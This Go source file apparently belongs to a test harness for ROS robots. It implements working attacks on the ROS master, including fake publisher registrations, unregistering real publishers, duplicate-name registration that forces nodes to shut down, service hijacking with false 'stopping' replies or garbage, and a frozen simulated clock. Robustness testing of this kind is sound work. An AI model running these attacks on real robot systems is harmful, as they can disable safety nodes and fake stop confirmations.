package hostile

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math"
	"strings"
	"sync/atomic"
	"time"

	"github.com/robowarden/robowarden/test/internal/wire"
)

// graphAttacks lie to the master, which believes everybody, and so to all who believe the master.
func graphAttacks() []Attack {
	return []Attack{
		{"graph-register-nowhere", "fills the publisher list with places where nobody is", NeedNode | NeedPose, graphRegisterNowhere},
		{"graph-register-other-type", "registers a publisher of another type on the topic", NeedNode | NeedPose, graphRegisterOtherType},
		{"graph-unregister-publisher", "takes the real publishers of a topic off the list, and so the feed from nodes other than rospy", NeedNode | NeedPose, graphUnregisterPublisher},
		{"graph-unregister-subscriber", "takes the node's subscription off the list, so that it hears of no new publisher", NeedNode | NeedPose, graphUnregisterSubscriber},
		{"graph-duplicate-node", "registers under the node's name, whereupon the master orders the node to end", NeedNode, graphDuplicateNode},
		{"graph-duplicate-trusted", "ends the trusted node in the same way", NeedNode | NeedTrusted, graphDuplicateTrusted},
		{"graph-steal-service", "answers the node's service calls with yes and does nothing", NeedNode | NeedService, graphSteal(serviceYes)},
		{"graph-hang-service", "never answers the node's service calls", NeedNode | NeedService, graphSteal(serviceHang)},
		{"graph-garble-service", "answers the node's service calls with 4 GiB, half answers and noise", NeedNode | NeedService, graphSteal(serviceGarble())},
		{"graph-sim-time", "turns simulated time on and stops it", NeedNode, graphSimTime},
	}
}

// publishers asks the master who publishes a topic.
func publishers(ctx context.Context, master, topic string) ([]string, error) {
	v, err := wire.CallROS(ctx, master, "getSystemState", Name)
	if err != nil {
		return nil, err
	}
	tables, _ := v.([]any)
	if len(tables) != 3 {
		return nil, fmt.Errorf("hostile: getSystemState: expected three tables, found %v", v)
	}
	rows, _ := tables[0].([]any)
	for _, r := range rows {
		row, _ := r.([]any)
		if len(row) != 2 || row[0] != topic {
			continue
		}
		var names []string
		nodes, _ := row[1].([]any)
		for _, n := range nodes {
			if s, ok := n.(string); ok {
				names = append(names, s)
			}
		}
		return names, nil
	}
	return nil, nil
}

func graphRegisterNowhere(ctx context.Context, t Target) error {
	uris := []string{
		"http://127.0.0.1:1/", "http://127.0.0.1:99999/", "http://127.0.0.1/", "ftp://127.0.0.1:21/", "http://",
		"not a uri", "", "http://127.0.0.1:1/" + strings.Repeat("x", 5000), "http://[::1]:1/", "http://127.0.0.1:-1/",
	}
	done := 0
	for i, uri := range uris {
		// The master itself refuses some of these; the others go to every subscriber.
		if _, err := wire.CallROS(ctx, t.Master, "registerPublisher", fmt.Sprintf("%s_%d", Name, i), t.PoseTopic, t.PoseType.Name, uri); err == nil {
			done++
		}
	}
	if done == 0 {
		return fmt.Errorf("hostile: the master took none of %d registrations", len(uris))
	}
	sleep(ctx, t.duration())
	for i, uri := range uris {
		_, _ = wire.CallROS(ctx, t.Master, "unregisterPublisher", fmt.Sprintf("%s_%d", Name, i), t.PoseTopic, uri)
	}
	return nil
}

func graphRegisterOtherType(ctx context.Context, t Target) error {
	n, err := t.intruder(Name)
	if err != nil {
		return err
	}
	defer func() { _ = n.Close() }()
	pub, err := n.Advertise(ctx, wire.PublisherConfig{Topic: t.PoseTopic, Type: wire.String})
	if err != nil {
		return err
	}
	repeat(ctx, 20, t.duration(), func() { pub.Send(wire.StringBody("not a pose")) })
	return nil
}

func graphUnregisterPublisher(ctx context.Context, t Target) error {
	names, err := publishers(ctx, t.Master, t.PoseTopic)
	if err != nil {
		return fmt.Errorf("hostile: nobody publishes %s: %w", t.PoseTopic, err)
	}
	if len(names) == 0 {
		return fmt.Errorf("hostile: nobody publishes %s: the master lists no publisher", t.PoseTopic)
	}
	for _, name := range names {
		uri, err := t.slave(ctx, name)
		if err != nil {
			return err
		}
		if _, err := wire.CallROS(ctx, t.Master, "unregisterPublisher", name, t.PoseTopic, uri); err != nil {
			return err
		}
	}
	sleep(ctx, t.duration())
	return nil
}

func graphUnregisterSubscriber(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	v, err := wire.CallROS(ctx, t.Master, "unregisterSubscriber", t.Node, t.PoseTopic, uri)
	if err != nil {
		return err
	}
	if v != 1 {
		return fmt.Errorf("hostile: %s is not registered for %s: %w", t.Node, t.PoseTopic, ErrNoSurface)
	}
	sleep(ctx, t.duration())
	return nil
}

func graphDuplicateNode(ctx context.Context, t Target) error { return duplicate(ctx, t, t.Node) }

func graphDuplicateTrusted(ctx context.Context, t Target) error { return duplicate(ctx, t, t.Trusted) }

// duplicate registers something of no importance under the name.
func duplicate(ctx context.Context, t Target, name string) error {
	n, err := t.intruder(name)
	if err != nil {
		return err
	}
	defer func() { _ = n.Close() }()
	if _, err := n.Advertise(ctx, wire.PublisherConfig{Topic: "/intruder/nothing", Type: wire.String}); err != nil {
		return err
	}
	sleep(ctx, t.duration())
	return nil
}

// graphSteal registers the service anew: the master sends every later caller to the newcomer.
func graphSteal(serve func(context.Context, *wire.Conn)) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		n, err := t.intruder(Name)
		if err != nil {
			return err
		}
		defer func() { _ = n.Close() }()
		if _, err := n.Provide(ctx, t.Service, wire.SetBool, serve); err != nil {
			return err
		}
		sleep(ctx, t.duration())
		return nil
	}
}

func serviceYes(_ context.Context, c *wire.Conn) {
	for {
		if _, err := wire.ReadFrame(c, 1<<20); err != nil {
			return
		}
		reply := wire.AppendString([]byte{1}, "stopping")
		if _, err := c.Write(append([]byte{1}, wire.Frame(reply)...)); err != nil {
			return
		}
	}
}

func serviceHang(ctx context.Context, _ *wire.Conn) { <-ctx.Done() }

// serviceGarble answers each call with another kind of garbage, in turn.
func serviceGarble() func(context.Context, *wire.Conn) {
	garble := [][]byte{
		append([]byte{1}, binary.LittleEndian.AppendUint32(nil, math.MaxUint32)...),
		{1, 5, 0, 0, 0, 1, 0xff, 0xff, 0xff, 0xff},
		{0, 0xff, 0xff, 0xff, 0x7f},
		{7},
		[]byte(strings.Repeat("\xaa", 4096)),
		{},
	}
	var n atomic.Int64
	return func(_ context.Context, c *wire.Conn) {
		if _, err := wire.ReadFrame(c, 1<<20); err != nil {
			return
		}
		_, _ = c.Write(garble[int(n.Add(1)-1)%len(garble)])
		_ = c.SetReadDeadline(time.Now().Add(time.Second))
		_, _ = io.Copy(io.Discard, c)
	}
}

// graphSimTime makes nodes that ask the master believe in a clock that stands still.
func graphSimTime(ctx context.Context, t Target) error {
	n, err := t.intruder(Name)
	if err != nil {
		return err
	}
	defer func() { _ = n.Close() }()
	if _, err := wire.CallROS(ctx, t.Master, "setParam", Name, "/use_sim_time", true); err != nil {
		return err
	}
	defer func() { _, _ = wire.CallROS(ctx, t.Master, "deleteParam", Name, "/use_sim_time") }()
	clock, err := n.Advertise(ctx, wire.PublisherConfig{
		Topic: "/clock", Type: wire.Type{Name: "rosgraph_msgs/Clock", MD5: "a9c97c1d230cfc112e270351a944ee47"},
	})
	if err != nil {
		return err
	}
	frozen := binary.LittleEndian.AppendUint64(nil, 1000)
	repeat(ctx, 100, t.duration(), func() { clock.Send(frozen) })
	return nil
}
